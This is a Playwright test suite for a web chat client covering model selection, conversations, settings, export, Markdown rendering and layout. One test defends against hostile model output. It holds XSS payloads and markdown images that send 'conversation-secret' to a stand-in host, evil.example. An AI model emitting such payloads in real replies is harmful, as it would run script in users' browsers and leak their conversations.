// The chat: models, conversations, settings, message actions, export, Markdown, keyboard,
// themes and small screens.
import { readFileSync } from "node:fs";
import { test, expect, openApp, signedIn, send, lastReply } from "../fixtures";
import type { Page } from "@playwright/test";

const model = (page: Page) => page.getByRole("combobox", { name: /Model/ });

function lastChatRequest(standIn: { log: { path: string; method: string; body: string; headers: Record<string, string> }[] }) {
  const r = standIn.log.filter((x) => x.path === "/api/v1/chat/completions" && x.method === "POST").at(-1)!;
  return { ...r, json: JSON.parse(r.body) };
}

test.describe("models", () => {
  test("the model list loads before sign-in, without a key", async ({ page, site, standIn }) => {
    await openApp(page, site);
    await expect(page.getByText(/6 models to choose from, 1 of them free/)).toBeVisible();
    const request = standIn.log.find((r) => r.path === "/api/v1/models")!;
    expect(request.headers.authorization).toBeUndefined();
  });

  test("the picker searches by name and id, shows context and prices, filters free models, and lists models missing fields", async ({ page, site, standIn }) => {
    await signedIn(page, site, standIn);
    await model(page).click();
    const options = page.getByRole("listbox", { name: "Models" }).getByRole("option");
    await expect(options).toHaveCount(6);
    // A model with null name, pricing and context is still listed, by its id.
    await expect(options.filter({ hasText: "mistralai/mistral-small" })).toHaveCount(1);
    await model(page).fill("claude");
    await expect(options).toHaveCount(1);
    await expect(options.first()).toContainText("Anthropic: Claude Sonnet 4.5");
    await expect(options.first()).toContainText("1M tokens");
    await expect(options.first()).toContainText("in $3.00/M · out $15/M");
    await model(page).fill("openai/gpt");
    await expect(options).toHaveCount(1);
    await expect(options.first()).toContainText("128K tokens");
    await expect(options.first()).toContainText("in $0.15/M · out $0.60/M");
    await model(page).fill("");
    await page.getByLabel("Free models only").check();
    await expect(options).toHaveCount(1);
    await expect(options.first()).toContainText("free");
    await options.first().click();
    await expect(model(page)).toHaveValue("meta-llama/llama-3.3-70b-instruct:free");
    await send(page, "Hi");
    await lastReply(page);
    expect(lastChatRequest(standIn).json.model).toBe("meta-llama/llama-3.3-70b-instruct:free");
  });

  test("the keyboard picks a model, and the last choice is remembered", async ({ page, site, standIn }) => {
    await signedIn(page, site, standIn);
    await model(page).click();
    await model(page).fill("deepseek");
    await page.keyboard.press("ArrowDown");
    await page.keyboard.press("Enter");
    await expect(model(page)).toHaveValue("deepseek/deepseek-r1");
    await page.reload();
    await expect(model(page)).toHaveValue("deepseek/deepseek-r1");
    await page.getByRole("button", { name: "New conversation" }).click();
    await expect(model(page)).toHaveValue("deepseek/deepseek-r1");
  });

  test("when the list cannot load, any model id can still be typed", async ({ page, site, standIn }) => {
    standIn.setFaults({ modelsStatus: 502 });
    await signedIn(page, site, standIn);
    await model(page).click();
    await expect(page.getByText("The model list could not be loaded; type a model id.")).toBeVisible();
    await model(page).fill("some/other-model");
    await page.keyboard.press("Enter");
    await send(page, "Hi");
    await lastReply(page);
    expect(lastChatRequest(standIn).json.model).toBe("some/other-model");
  });
});

test.describe("conversations", () => {
  test("conversations survive reloads; new, switch, rename, delete with undo", async ({ page, site, standIn }) => {
    await signedIn(page, site, standIn);
    standIn.pushScript({ reply: "First answer." }, { reply: "Second answer." });
    await send(page, "First question");
    await lastReply(page);
    await page.getByRole("button", { name: "New conversation" }).click();
    await expect(page.locator('[data-role="user"]')).toHaveCount(0);
    await send(page, "Second question");
    await lastReply(page);
    const list = page.getByRole("navigation", { name: "Conversations" });
    await expect(list.getByRole("listitem")).toHaveCount(2);
    await page.reload();
    await expect(page.locator('[data-role="user"]')).toHaveText(["Second question"]);
    await list.getByRole("button", { name: "First question", exact: true }).click();
    await expect(page.locator('[data-role="assistant"]')).toHaveText(["First answer."]);
    // Rename.
    await list.getByRole("button", { name: "Rename “First question”" }).click();
    await list.getByLabel("New title").fill("Renamed");
    await page.keyboard.press("Enter");
    await expect(list.getByRole("button", { name: "Renamed", exact: true })).toBeVisible();
    await page.reload();
    await expect(list.getByRole("button", { name: "Renamed", exact: true })).toBeVisible();
    // Delete, then undo.
    await list.getByRole("button", { name: "Delete “Renamed”" }).click();
    await expect(list.getByRole("listitem")).toHaveCount(1);
    await page.getByRole("button", { name: "Undo" }).click();
    await expect(list.getByRole("listitem")).toHaveCount(2);
    await expect(page.locator('[data-role="assistant"]')).toHaveText(["First answer."]);
    // Delete for good.
    await list.getByRole("button", { name: "Delete “Renamed”" }).click();
    await page.reload();
    await expect(list.getByRole("listitem")).toHaveCount(1);
  });

  test("a storage failure gives a clear message and loses nothing on screen", async ({ page, site, standIn }) => {
    await signedIn(page, site, standIn);
    await page.evaluate(() => {
      Storage.prototype.setItem = function () {
        throw new DOMException("The quota has been exceeded.", "QuotaExceededError");
      };
    });
    standIn.pushScript({ reply: "Kept on screen." });
    await send(page, "Will this save?");
    expect(await lastReply(page)).toBe("Kept on screen.");
    await expect(page.getByRole("alert")).toContainText("refused to save data");
    await expect(page.locator('[data-role="user"]')).toHaveText(["Will this save?"]);
  });

  test("system prompt, temperature and max tokens are kept per conversation and sent", async ({ page, site, standIn }) => {
    await signedIn(page, site, standIn);
    await page.getByText("Conversation settings").click();
    await page.getByLabel("System prompt").fill("Answer in French.");
    await page.getByLabel("Temperature").fill("0.3");
    await page.getByLabel("Max tokens").fill("256");
    await page.getByLabel("Max tokens").blur();
    await send(page, "Hello");
    await lastReply(page);
    const request = lastChatRequest(standIn).json;
    expect(request.messages[0]).toEqual({ role: "system", content: "Answer in French." });
    expect(request.temperature).toBeCloseTo(0.3);
    expect(request.max_tokens).toBe(256);
    // A new conversation starts from the defaults; the old one keeps its settings.
    await page.getByRole("button", { name: "New conversation" }).click();
    await send(page, "Hi again");
    await lastReply(page);
    const fresh = lastChatRequest(standIn).json;
    expect(fresh.messages).toEqual([{ role: "user", content: "Hi again" }]);
    expect(fresh.max_tokens).toBe(1024);
    expect(fresh.temperature).toBeUndefined();
  });

  test("out-of-range settings are clamped and the fields show what is sent", async ({ page, site, standIn }) => {
    await signedIn(page, site, standIn);
    await page.getByText("Conversation settings").click();
    await page.getByLabel("Max tokens").fill("-5");
    await page.getByLabel("Max tokens").blur();
    await expect(page.getByLabel("Max tokens")).toHaveValue("1");
    // The model allows at most 16384.
    await page.getByLabel("Max tokens").fill("999999");
    await page.getByLabel("Max tokens").blur();
    await expect(page.getByLabel("Max tokens")).toHaveValue("16384");
    await page.getByLabel("Temperature").fill("7");
    await page.getByLabel("Temperature").blur();
    await expect(page.getByLabel("Temperature")).toHaveValue("2");
    // An emptied model field keeps the model.
    await model(page).fill("");
    await model(page).blur();
    await expect(model(page)).toHaveValue("openai/gpt-4o-mini");
    await send(page, "Hi");
    await lastReply(page);
    const request = lastChatRequest(standIn).json;
    expect([request.model, request.max_tokens, request.temperature]).toEqual(["openai/gpt-4o-mini", 16384, 2]);
  });
});

test.describe("message actions", () => {
  test("regenerate the last reply, and edit and resend the last message", async ({ page, site, standIn }) => {
    await signedIn(page, site, standIn);
    standIn.pushScript({ reply: "Answer one." }, { reply: "Answer two." }, { reply: "Answer three." });
    await send(page, "Question");
    await lastReply(page);
    await page.getByRole("button", { name: "Regenerate" }).click();
    expect(await lastReply(page)).toBe("Answer two.");
    await expect(page.locator('[data-role="assistant"]')).toHaveText(["Answer two."]);
    expect(lastChatRequest(standIn).json.messages).toEqual([{ role: "user", content: "Question" }]);
    await page.getByRole("button", { name: "Edit" }).click();
    await expect(page.getByRole("textbox", { name: "Message" })).toHaveValue("Question");
    await expect(page.getByRole("textbox", { name: "Message" })).toBeFocused();
    await page.getByRole("textbox", { name: "Message" }).fill("Better question");
    await page.keyboard.press("Enter");
    expect(await lastReply(page)).toBe("Answer three.");
    await expect(page.locator('[data-role="user"]')).toHaveText(["Better question"]);
    expect(lastChatRequest(standIn).json.messages).toEqual([{ role: "user", content: "Better question" }]);
  });

  test("copy a message and a code block", async ({ page, context, site, standIn }) => {
    await context.grantPermissions(["clipboard-read", "clipboard-write"]);
    await signedIn(page, site, standIn);
    standIn.pushScript({ reply: "Run this:\n\n```sh\necho hello\n```\n" });
    await send(page, "Show me");
    await lastReply(page);
    await page.locator(".message").last().getByRole("button", { name: "Copy", exact: true }).click();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe("Run this:\n\n```sh\necho hello\n```\n");
    await page.getByRole("button", { name: "Copy code" }).click();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe("echo hello\n");
  });

  test("export a conversation as Markdown and as JSON", async ({ page, site, standIn }) => {
    await signedIn(page, site, standIn);
    standIn.pushScript({ reply: "An **answer**." });
    await send(page, "A question");
    await lastReply(page);
    const [md] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export Markdown" }).click()]);
    expect(md.suggestedFilename()).toBe("A-question.md");
    const markdown = readFileSync((await md.path())!, "utf8");
    expect(markdown).toContain("# A question");
    expect(markdown).toContain("## You\n\nA question\n\n## Assistant\n\nAn **answer**.");
    const [json] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export JSON" }).click()]);
    expect(json.suggestedFilename()).toBe("A-question.json");
    const data = JSON.parse(readFileSync((await json.path())!, "utf8"));
    expect(data.title).toBe("A question");
    expect(data.messages.map((m: { role: string; text: string }) => [m.role, m.text])).toEqual([
      ["user", "A question"],
      ["assistant", "An **answer**."],
    ]);
    expect(JSON.stringify(data)).not.toContain("sk-or-v1");
  });
});

test.describe("rendering", () => {
  test("replies render as Markdown with tokens and cost, and the conversation shows its total", async ({ page, site, standIn }) => {
    await signedIn(page, site, standIn);
    standIn.pushScript({ reply: "# Title\n\nSome **bold** and `code`.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n" });
    await send(page, "Markdown please");
    await lastReply(page);
    const body = page.locator('[data-role="assistant"]').last();
    await expect(body.locator("h1")).toHaveText("Title");
    await expect(body.locator("strong")).toHaveText("bold");
    await expect(body.locator("li")).toHaveText(["one", "two"]);
    await expect(body.locator("td")).toHaveText(["1", "2"]);
    await expect(page.locator(".message").last().locator(".usage")).toHaveText(/\d+ tokens · \$0\.000093/);
    standIn.pushScript({ reply: "Again." });
    await send(page, "Once more");
    await lastReply(page);
    await expect(page.locator(".totals")).toHaveText(/\d+ tokens · \$0\.000186 in total/);
  });

  test("reasoning appears collapsed above the answer", async ({ page, site, standIn }) => {
    await signedIn(page, site, standIn);
    standIn.pushScript({ reasoning: "Thinking it through.", reply: "Done." });
    await send(page, "Think");
    await lastReply(page);
    const details = page.locator(".message").last().locator("details.reasoning");
    await expect(details).not.toHaveAttribute("open");
    await expect(details).toContainText("Thinking it through.");
    const order = await page.locator(".message").last().evaluate((li) => [...li.children].map((c) => c.className));
    expect(order.indexOf("reasoning")).toBeLessThan(order.indexOf("message-body"));
  });

  test("24. hostile model output runs nothing, loads nothing and links nowhere unsafe", async ({ page, site, standIn, watch }) => {
    const hostile = [
      "<script>window.__pwned = 'script'</script>",
      '<img src="https://evil.example/pixel.png?leak=secret" onerror="window.__pwned=\'img\'">',
      "<iframe src=\"https://evil.example/\"></iframe>",
      '<a href="javascript:window.__pwned=\'html-link\'">html link</a>',
      "[md link](javascript:window.__pwned='md-link') [data](data:text/html,<script>alert(1)</script>)",
      "![exfil](https://evil.example/leak.png?d=conversation-secret) ![local](/favicon.svg)",
      '<style>body{background:url("https://evil.example/css")}</style>',
      "<svg onload=\"window.__pwned='svg'\"></svg> <details open ontoggle=\"window.__pwned='toggle'\">x</details>",
      "[safe](https://example.com/ok) <mailto:me@example.com>",
    ].join("\n\n");
    const requests: string[] = [];
    page.on("request", (r) => requests.push(r.url()));
    await signedIn(page, site, standIn);
    standIn.pushScript({ reply: hostile, splitBytes: "random" });
    await send(page, "Be evil");
    await lastReply(page);
    const body = page.locator('[data-role="assistant"]').last();
    // The markup is shown as text.
    await expect(body).toContainText("<script>window.__pwned = 'script'</script>");
    await expect(body).toContainText("<iframe src=\"https://evil.example/\"></iframe>");
    for (const tag of ["script", "img", "iframe", "style", "svg", "object", "embed"]) {
      await expect(body.locator(tag)).toHaveCount(0);
    }
    expect(await body.evaluate((el) => [...el.querySelectorAll("*")].flatMap((e) => [...e.attributes].map((a) => a.name)).filter((n) => n.startsWith("on")))).toEqual([]);
    // Links: only http(s) and mailto, in a new tab, without referrer or opener.
    const links = await body.locator("a").evaluateAll((as) => as.map((a) => [a.getAttribute("href"), a.getAttribute("target"), a.getAttribute("rel")]));
    expect(links).toEqual([
      ["https://evil.example/leak.png?d=conversation-secret", "_blank", "noopener noreferrer"],
      ["https://example.com/ok", "_blank", "noopener noreferrer"],
      ["mailto:me@example.com", "_blank", "noopener noreferrer"],
    ]);
    // The unsafe "links" are plain text: clicking them does nothing.
    await body.getByText("md link").click();
    await body.getByText("data", { exact: true }).click();
    await page.waitForTimeout(200);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
    expect(requests.filter((u) => u.includes("evil.example"))).toEqual([]);
    expect(await watch.violations(page)).toEqual([]);
  });
});

test.describe("use", () => {
  test("Enter sends, Shift+Enter adds a line, Escape stops, and focus returns to the message box", async ({ page, site, standIn }) => {
    await signedIn(page, site, standIn);
    const box = page.getByRole("textbox", { name: "Message" });
    await box.click();
    await page.keyboard.type("line one");
    await page.keyboard.press("Shift+Enter");
    await page.keyboard.type("line two");
    standIn.pushScript({ reply: "word ".repeat(300), tokensPerSecond: 20 });
    await page.keyboard.press("Enter");
    await expect(page.locator('[data-role="user"]').last()).toHaveText("line one\nline two");
    await expect(page.getByRole("button", { name: "Stop" })).toBeVisible();
    await page.keyboard.press("Escape");
    await expect(page.getByRole("button", { name: "Stop" })).toHaveCount(0);
    await expect(box).toBeFocused();
    await expect.poll(() => standIn.aborted.length).toBe(1);
  });

  test("the streaming reply is a polite live region", async ({ page, site, standIn }) => {
    await signedIn(page, site, standIn);
    standIn.pushScript({ reply: "word ".repeat(100), tokensPerSecond: 20 });
    await send(page, "Talk");
    const live = page.locator('.message.live [data-role="assistant"]');
    await expect(live).toHaveAttribute("aria-live", "polite");
    await expect(live).toHaveAttribute("aria-busy", "true");
    await page.getByRole("button", { name: "Stop" }).click();
  });

  test("requests carry the attribution headers", async ({ page, site, standIn }) => {
    await signedIn(page, site, standIn);
    await send(page, "Hi");
    await lastReply(page);
    const request = lastChatRequest(standIn);
    expect(request.headers["http-referer"]).toBe(site.url);
    expect(request.headers["x-title"]).toBe("Switchboard");
  });

  test("light and dark themes follow the system", async ({ page, site }) => {
    await page.emulateMedia({ colorScheme: "light" });
    await openApp(page, site);
    const light = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
    await page.emulateMedia({ colorScheme: "dark" });
    const dark = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
    expect(light).toBe("rgb(247, 247, 248)");
    expect(dark).toBe("rgb(17, 17, 20)");
  });

  test("works on a phone-sized screen", async ({ page, site, standIn }) => {
    await page.setViewportSize({ width: 375, height: 740 });
    await signedIn(page, site, standIn);
    standIn.pushScript({ reply: "A reply with a long unbroken token: " + "x".repeat(200) + "\n\n```\n" + "y".repeat(200) + "\n```" });
    await send(page, "Hi from a phone");
    await lastReply(page);
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    expect(overflow).toBeLessThanOrEqual(0);
    await expect(page.getByRole("textbox", { name: "Message" })).toBeInViewport();
    await expect(page.getByRole("button", { name: "Send" })).toBeInViewport();
    // Even on a small phone the conversation keeps a good part of the screen, and the page itself
    // does not scroll (only the transcript does).
    for (const [width, height] of [[375, 740], [360, 640]]) {
      await page.setViewportSize({ width, height });
      const share = await page.evaluate(() => document.querySelector(".transcript")!.getBoundingClientRect().height / innerHeight);
      expect(share, `${width}×${height}`).toBeGreaterThan(0.25);
      expect(await page.evaluate(() => document.documentElement.scrollHeight - innerHeight)).toBe(0);
      // The current conversation is whole in the (scrolling) list above.
      const clipped = await page.evaluate(() => {
        const list = document.querySelector(".conversation-list")!.getBoundingClientRect();
        const row = document.querySelector(".conversation-list li")!.getBoundingClientRect();
        return row.bottom - list.bottom;
      });
      expect(clipped, `${width}×${height}`).toBeLessThanOrEqual(0);
      await expect(page.getByRole("button", { name: "Send" })).toBeInViewport();
    }
  });
});
